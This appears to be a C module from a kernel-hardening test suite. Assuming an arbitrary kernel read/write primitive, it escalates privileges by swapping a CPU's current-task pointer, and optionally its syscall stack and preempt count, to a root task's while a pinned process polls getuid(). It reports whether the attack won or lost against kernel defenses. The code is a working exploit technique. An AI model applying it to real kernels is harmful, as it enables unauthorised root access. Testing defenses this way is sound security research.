// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on which task is the current one: memory of the CPU's says so. Whoever has
 * another CPU turns it to a task of root's, while his own asks for its user ID.
 */
#include <sys/mman.h>
#include <sys/prctl.h>
#include <signal.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define ASKER_CPU	1
#define TURNS		400
#define WAITS		40	/* looks of the asker in each */
#define SOME_ASKED	100	/* times until it runs in a steady way */
#define PATIENCE	5000	/* milliseconds */

#ifdef __x86_64__
#define CURRENT		"pcpu_hot"	/* begins with the task that runs */
#define CURRENT_SIZE	64
#define PREEMPT_COUNT	8
#else
#define CURRENT		"__entry_task"	/* what each system call begins with */
#endif

/* Shared with who asks. */
static struct {
	volatile unsigned long asked;
	volatile bool found;
} *asker;

struct turn {
	struct task own, root;
	uint64_t current;	/* where the CPU has its task */
	uint64_t stack;		/* where it has its stack for system calls, or 0 */
	uint64_t count;		/* where it has what it counts interrupts in, or 0 */
};

static void ask_for_ever(void)
{
	stay_on_cpu(ASKER_CPU);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (!asker->found) {
		if (!getuid())
			asker->found = true;
		asker->asked++;
	}
	for (;;)
		;
}

static bool wait_for_asker(unsigned long more)
{
	unsigned long asked = asker->asked;
	uint64_t end = now_ms() + PATIENCE;

	while (asker->asked - asked < more && !asker->found)
		if (now_ms() > end)
			return false;
	return true;
}

/* Root's is one that waits for others. */
static const char *start(struct turn *turn)
{
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return "needs a second CPU";
	asker = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	turn->current = ksymbol_cpu(CURRENT, ASKER_CPU);
	pid = fork();
	if (!pid)
		ask_for_ever();
	if (pid < 0 || !turn->current || ktask(pid, &turn->own) || ktask(helper_pid(), &turn->root) ||
	    !wait_for_asker(SOME_ASKED))
		return "nobody asks on the other CPU";
	return NULL;
}

static void set_count(const struct turn *turn, bool set)
{
	uint32_t count, bit = 1U << 16;

	if (!turn->count || kread(turn->count, &count, sizeof(count)))
		return;
	count = set ? count | bit : count & ~bit;
	kwrite(turn->count, &count, sizeof(count));
}

static uint64_t top_of_own(const struct turn *turn)
{
	return turn->own.stack + turn->own.stack_size;
}

/* Half of the other one's stack is more than who sleeps has on it. */
static uint64_t top_of_other(const struct turn *turn)
{
	return turn->root.stack + turn->root.stack_size / 2;
}

/* Only while the CPU has the task that is meant: it may have another one by now. */
static bool turn_to_root(const struct turn *turn)
{
	if (kread64(turn->current) != turn->own.task)
		return false;
	if (turn->stack)
		kwrite64(turn->stack, top_of_other(turn));
	set_count(turn, true);
	kwrite64(turn->current, turn->root.task);
	return true;
}

static void turn_back(const struct turn *turn)
{
	if (kread64(turn->current) == turn->root.task)
		kwrite64(turn->current, turn->own.task);
	set_count(turn, false);
	if (turn->stack && kread64(turn->stack) == top_of_other(turn))
		kwrite64(turn->stack, top_of_own(turn));
}

static enum outcome turn_often(const struct turn *turn)
{
	int i, turned = 0;

	for (i = 0; i < TURNS && !asker->found; i++) {
		if (!turn_to_root(turn))
			continue;
		turned++;
		wait_for_asker(WAITS);
		turn_back(turn);
	}
	if (!turned)
		return broken("the CPU never had the task that asks");
	if (!asker->found)
		return lost("the CPU's task was root's %d times, and getuid() never gave 0",
			    turned);
	return won("the CPU's task turned to root's: its own process got 0 from getuid()");
}

/* What is found besides is turned as well. */
static enum outcome attack_current(const char *(*find_more)(struct turn *turn))
{
	struct turn turn = { 0 };
	const char *missing = start(&turn);

	if (!missing && find_more)
		missing = find_more(&turn);
	return missing ? broken("%s", missing) : turn_often(&turn);
}

enum outcome current_task(void)
{
	return attack_current(NULL);
}

#ifdef __x86_64__
static const char *find_stack(struct turn *turn)
{
	turn->stack = find_word(turn->current, CURRENT_SIZE, top_of_own(turn));
	return turn->stack ? NULL : "no end of a stack found";
}

static const char *find_count(struct turn *turn)
{
	turn->count = turn->current + PREEMPT_COUNT;
	return NULL;
}

enum outcome current_stack(void)
{
	return attack_current(find_stack);
}

enum outcome current_interrupted(void)
{
	return attack_current(find_count);
}
#else
enum outcome current_stack(void)
{
	return skipped("x86-64 only");
}

enum outcome current_interrupted(void)
{
	return skipped("x86-64 only");
}
#endif
